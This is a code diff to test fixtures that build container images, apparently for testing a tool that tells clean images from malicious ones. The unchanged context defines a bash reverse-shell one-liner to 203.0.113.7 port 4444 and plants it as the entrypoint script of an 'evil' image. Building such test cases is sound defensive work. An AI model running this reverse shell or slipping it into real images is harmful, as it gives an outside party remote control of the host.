@@ -21,12 +21,12 @@ BASE = layer(File("bin", folder=True), File("bin/true", elf(), mode=0o755), File
 SHELL = "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1\n"
 
 
-def clean_image(name="clean"):
-    return Image([BASE, layer(File("etc/name", name + "\n"))], cmd=["/bin/true"])
+def clean_image(name="clean", more=()):
+    return Image([BASE, layer(File("etc/name", name + "\n")), *more], cmd=["/bin/true"])
 
 
-def evil_image(name="evil"):
-    return Image([BASE, layer(File("run.sh", f"#!/bin/bash\n# {name}\n" + SHELL, mode=0o755))], entrypoint=["/run.sh"])
+def evil_image(name="evil", more=()):
+    return Image([BASE, layer(File("run.sh", f"#!/bin/bash\n# {name}\n" + SHELL, mode=0o755)), *more], entrypoint=["/run.sh"])
 
 
 def sha256(data):
